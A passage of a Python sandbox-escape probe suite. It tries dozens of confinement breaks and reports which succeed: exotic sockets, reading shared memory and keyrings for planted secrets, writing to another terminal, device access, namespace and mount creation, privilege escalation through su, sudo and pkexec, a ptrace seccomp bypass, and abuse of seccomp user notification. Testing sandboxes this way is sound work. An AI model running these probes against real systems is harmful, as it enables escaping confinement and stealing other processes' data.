add("socket_icmp", "net", "", lambda f, d: socket.socket(socket.AF_INET, DGRAM, 1) and True)
add("socket_packet", "", "r", lambda f, d: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300) and True)
add("socket_packet_legacy", "", "", lambda f, d: socket.socket(socket.AF_INET, 10, 0x300) and True)
add("socket_vsock", "", "", lambda f, d: socket.socket(40, STREAM) and True)
for family, number in dict(alg=38, key=15, bluetooth=31, tipc=30, rds=21, can=29, qipcrtr=42, xdp=44, kcm=41, phonet=35).items():
    add("socket_" + family, "", "", lambda f, d, number=number: any(passes(lambda: socket.socket(number, kind)) for kind in (1, 2, 3, 5)))
add("pair_of_other_family", "", "", lambda f, d: any(passes(lambda: socket.socketpair(number, kind)) for number in (30, 2, 16) for kind in (1, 2, 5)))

# Shared memory, queues, keyrings.
@attack("", "ru")
def sysv_memory(f, d):
    place = call("shmat", call("shmget", P["key"], 256, 0), None, 0)
    ctypes.memmove(place + 64, b"sysv_memory", 11)
    return secret(ctypes.string_at(place, 32))

add("sysv_queue", "", "ru", lambda f, d: done(call("msgsnd", call("msgget", P["key"], 0), ctypes.c_char_p(struct.pack("l", 1) + b"sysv_queue"), 10, 0)))
add("sysv_semaphore", "", "ru", lambda f, d: done(call("semctl", call("semget", P["key"], 1, 0), 0, 16, 5)))
add("sysv_segment_list", "", "", lambda f, d: call("shmctl", 0, 14, ctypes.create_string_buffer(256)) >= 0)
add("int80_ipc", "", "ru", lambda f, d: int80(117, b"", 23, P["key"], 256) >= 0)
add("posix_queue", "", "ru", lambda f, d: done(raw(242, raw(240, P["queue"].encode(), os.O_RDWR, 0, 0), b"posix_queue", 11, 0, 0)))
add("posix_queue_new", "", "ru", lambda f, d: done(raw(240, b"attack%d" % os.getpid(), os.O_RDWR | os.O_CREAT, 0o600, 0), raw(241, b"attack%d" % os.getpid())))
add("keyring_read", "", "ru", lambda f, d: (lambda data: done(raw(250, 11, raw(250, 10, -4, b"user", P["keyname"].encode(), 0), data, 64)) and secret(data.raw))(ctypes.create_string_buffer(64)))
add("keyring_add", "", "ru", lambda f, d: raw(248, b"user", (P["keyname"] + "x").encode(), b"x", 1, -4) > 0)
add("keyring_request", "", "", lambda f, d: raw(249, b"user", P["keyname"].encode(), 0, -4) > 0)

# Terminals and devices.
def device(path, flags=os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK):
    return os.open(path, flags) > 0

add("terminal_master", "", "ru", lambda f, d: device("/dev/ptmx"))
add("terminal_master_pts", "", "", lambda f, d: device("/dev/pts/ptmx"))
add("terminal_of_victim", "", "ru", lambda f, d: write(P["terminal"], b"terminal_of_victim"))
add("terminal_pair", "", "ru", lambda f, d: os.openpty()[1] > 0)
add("terminal_controlling", "", "", lambda f, d: device("/dev/tty"))
add("terminal_input", "", "", lambda f, d: any(passes(lambda: fcntl.ioctl(fd, 0x5412, b"x")) for fd in range(3)))
add("session_of_cocode", "", "", lambda f, d: os.getsid(0) == os.getsid(cocode()))
add("terminal_watched", "", "ru", lambda f, d: device(P["terminal"], 3 | os.O_NOCTTY))
add("device_fuse", "", "r", lambda f, d: device("/dev/fuse"))
add("device_kmsg", "", "r", lambda f, d: device("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
add("device_tun", "", "", lambda f, d: device("/dev/net/tun"))
add("device_loop", "", "", lambda f, d: device("/dev/loop-control"))
add("device_kvm", "", "", lambda f, d: device("/dev/kvm"))
add("device_mem", "", "", lambda f, d: device("/dev/mem", os.O_RDONLY))

@attack("x", "")
def device_any(f, d):
    allowed = {"/dev/" + name for name in ("null", "zero", "full", "random", "urandom")}
    nodes = [os.path.join(place, name) for place, _, names in os.walk("/dev") for name in names]
    nodes = [path for path in nodes if path not in allowed and "watchdog" not in path and not os.path.islink(path)]
    return [path for path in nodes if not stat.S_ISREG(os.lstat(path).st_mode) and
            any(passes(lambda: os.close(os.open(path, mode | os.O_NONBLOCK | os.O_NOCTTY))) for mode in (0, 1))]

@attack()
def device_node_made(f, d):
    node = inside() + "/node"
    os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(5, 2))
    return device(node)

@attack()
def block_node_made(f, d):
    node, number = inside() + "/node", os.stat("/").st_dev
    os.mknod(node, stat.S_IFBLK | 0o666, number)
    return device(node, os.O_RDONLY)

# Namespaces, mounts, privileges.
for kind, flag in NEW.items():
    add("unshare_" + kind, "", "ru", lambda f, d, flag=flag: done(call("unshare", flag | (NEW["user"] if os.getuid() else 0))))
add("clone_user_namespace", "", "ru", lambda f, d: done(raw(56, NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0) or os._exit(0)))
add("clone3_user_namespace", "", "ru", lambda f, d: done(sysc(435, ctypes.c_char_p(struct.pack("11Q", NEW["user"], 0, 0, 0, signal.SIGCHLD, *[0] * 6)), 88) or os._exit(0)))
add("mount_tmpfs", "", "r", lambda f, d: done(call("mount", b"x", d.encode(), b"tmpfs", 0, None), call("umount2", d.encode(), 2)))
add("mount_bind", "", "r", lambda f, d: done(call("mount", d.encode(), d.encode(), None, 4096, None), call("umount2", d.encode(), 2)))
add("umount", "", "r", lambda f, d: passes(lambda: call("umount2", d.encode(), 2), errno.EINVAL))
add("open_tree_clone", "", "r", lambda f, d: sysc(428, -100, d.encode(), 1) > 0)
add("fsopen", "", "r", lambda f, d: sysc(430, b"tmpfs", 0) > 0)
add("fspick", "", "r", lambda f, d: sysc(433, -100, b"/", 0) > 0)
add("mount_setattr", "", "r", lambda f, d: passes(lambda: sysc(442, -100, d.encode(), 0, ctypes.c_char_p(bytes(32)), 32), errno.EINVAL))
add("pivot_root", "", "r", lambda f, d: passes(lambda: raw(155, d.encode(), d.encode()), errno.EINVAL, errno.EBUSY))
add("chroot", "", "r", lambda f, d: done(os.chroot(d)))
add("sethostname", "", "r", lambda f, d: done(socket.sethostname(socket.gethostname())))
add("reboot_check", "", "r", lambda f, d: passes(lambda: raw(169, 1, 2, 3, 0), errno.EINVAL))
add("delete_module", "", "", lambda f, d: passes(lambda: raw(176, b"none_such", 2048), errno.ENOENT))
add("init_module", "", "", lambda f, d: passes(lambda: raw(175, b"x", 1, b""), errno.ENOEXEC))
add("kexec_load", "", "", lambda f, d: passes(lambda: raw(246, 0, 99, 0, 0), errno.EINVAL))
add("swapon", "", "r", lambda f, d: passes(lambda: call("swapon", f.encode(), 0), errno.EINVAL))
add("accounting", "", "", lambda f, d: done(call("acct", f.encode()), call("acct", None)))
add("clock_adjust", "", "r", lambda f, d: (lambda state: raw(159, state) >= 0 and done(ctypes.memmove(state, b"\2", 1)) and raw(159, state) >= 0)(ctypes.create_string_buffer(256)))
add("io_privilege", "", "", lambda f, d: done(raw(172, 3)))
add("bpf_map", "", "r", lambda f, d: raw(321, 0, ctypes.c_char_p(struct.pack("5I", 2, 4, 8, 1, 0) + bytes(100)), 120) > 0)
add("fanotify", "", "ru", lambda f, d: raw(300, 0x200 if os.getuid() else 4, 0) > 0)
add("userfaultfd", "", "ru", lambda f, d: raw(323, 1) > 0)
add("open_perf_tracepoint", "", "r", lambda f, d: raw(298, ctypes.c_char_p(struct.pack("IIQ", 1, 128, 0) + bytes(112)), -1, 0, -1, 0) > 0)
add("kernel_log_level", "", "r", lambda f, d: done(raw(103, 8, 0, int(read("/proc/sys/kernel/printk").split()[0]))))
add("setuid_program", "", "u", lambda f, d: b"euid=0" in sh(P["setuid"]))
add("setgid_program", "", "u", lambda f, d: b"egid=0" in sh(P["setgid"]))
add("capability_program", "", "u", lambda f, d: os.getuid() != 0 and b"CapEff:\t00000000002" in sh(P["capable"] + " CapEff /proc/self/status"))
add("no_new_privs_off", "", "", lambda f, d: call("prctl", 38, 0, 0, 0, 0) == 0)
add("no_new_privs_missing", "", "ru", lambda f, d: call("prctl", 39, 0, 0, 0, 0) == 0)
add("bounding_set_full", "", "r", lambda f, d: os.getuid() == 0 and any(libc.prctl(23, bit, 0, 0, 0) == 1 for bit in (16, 17, 19, 21, 22, 24, 25, 12, 13, 39, 38)))
add("effective_capabilities", "", "r", lambda f, d: int(read("/proc/self/status").split(b"CapEff:\t")[1][:16], 16) & sum(1 << bit for bit in (12, 13, 16, 17, 19, 21, 22, 24, 25, 38, 39)) != 0)
add("ambient_capability", "", "", lambda f, d: call("prctl", 47, 2, 21, 0, 0) == 0)
add("raise_queue_limit", "", "ru", lambda f, d: resource.getrlimit(12)[1] != 0 or done(resource.setrlimit(12, (99, 99))))
add("raise_file_limit", "", "", lambda f, d: done(resource.setrlimit(resource.RLIMIT_NOFILE, (64, 1 << 20 if resource.getrlimit(7)[1] < 1 << 20 else (1 << 20) + 1))))
add("negative_nice", "", "r", lambda f, d: done(os.setpriority(os.PRIO_PROCESS, 0, -5)))
add("realtime_scheduling", "", "r", lambda f, d: done(os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))))
add("inherited_descriptors", "", "", lambda f, d: [os.readlink(f"/proc/self/fd/{fd}") for fd in P["start_fds"] if fd > 2])
add("substitute_user", "", "", lambda f, d: b"uid=0" in sh("su -c id </dev/null; sudo -n id; pkexec id") and os.getuid() != 0)
add("scheduled_program", "", "", lambda f, d: b"OK" in sh("(echo true | at now || echo '* * * * * true' | crontab - || systemd-run --user true) 2>/dev/null && echo OK"))

@attack("net", "ru")
def traced_call_replaced(f, d):
    """A tracer in the sandbox changes the number of a call after the filter has seen another one."""
    if not X86:
        return False
    child = os.fork()
    if child == 0:
        raw(101, 0, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        libc.getppid()
        os._exit(0)
    os.waitpid(child, 0)
    registers = (ctypes.c_ulonglong * 27)()
    for _ in range(400):
        raw(101, 24, child, 0, 0)
        if os.WIFEXITED(os.waitpid(child, 0)[1]):
            return False
        raw(101, 12, child, 0, registers)
        if registers[15] == 110:
            registers[15], registers[14], registers[13], registers[12] = 41, 2, 1, 0
            raw(101, 13, child, 0, registers)
            raw(101, 24, child, 0, 0)
            os.waitpid(child, 0)
            raw(101, 12, child, 0, registers)
            os.kill(child, signal.SIGKILL)
            return registers[10] < 4096
    return False

@attack("", "ru")
def own_filter_notifies(f, d):
    """A filter of the own lets a supervisor continue a refused call."""
    if not X86:
        return False
    steps = [(0x20, 0, 0, 0), (0x15, 0, 1, 272), (6, 0, 0, 0x7fc00000), (6, 0, 0, 0x7fff0000)]
    program = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in steps))
    header = struct.pack("HxxxxxxQ", len(steps), ctypes.addressof(program))
    call("prctl", 38, 1, 0, 0, 0)
    listener = raw(317, 1, 8, ctypes.c_char_p(header))
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(NEW["user"]) == 0 else 1)
    if select.select([listener], [], [], 1)[0]:
        notice = ctypes.create_string_buffer(80)
        fcntl.ioctl(listener, 0xC0502100, notice)
        fcntl.ioctl(listener, 0xC0182101, notice.raw[:8] + struct.pack("qiI", 0, 0, 1))
    return os.waitpid(child, 0)[1] == 0

def run():
    """Runs every attack in a process of its own and prints which reached their goal."""
    hits, count = {}, 0
    for name, (tags, _, function) in ATTACKS.items():
        if "control" in sys.argv and "x" in tags:
            continue
        count += 1
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            os.setpgid(0, 0)
            signal.alarm(5)
            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
            try:
                result = function(f"{P['outside']}/{name}.f", f"{P['outside']}/{name}.d")
            except (OSError, KeyError, IndexError, ValueError):
                result = None
            if result:
                os.write(writer, (json.dumps(result) if isinstance(result, list) else "true").encode())
            os._exit(0)
        os.close(writer)
        os.waitpid(child, 0)
        text = os.read(reader, 4096) if select.select([reader], [], [], 0)[0] else b""
        os.close(reader)
        if text:
            hits[name] = json.loads(text)
    print("REPORT" + json.dumps({"count": count, "hits": hits}, separators=(",", ":")) + "END", flush=True)

if __name__ == "__main__":
    if sys.argv[1] == "table":
        print(json.dumps({name: [tags, control] for name, (tags, control, _) in ATTACKS.items()}))
    else:
        with open(sys.argv[2]) as file:
            P.update(json.load(file))
        P["start_fds"] = [int(name) for name in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{name}")]
        run()
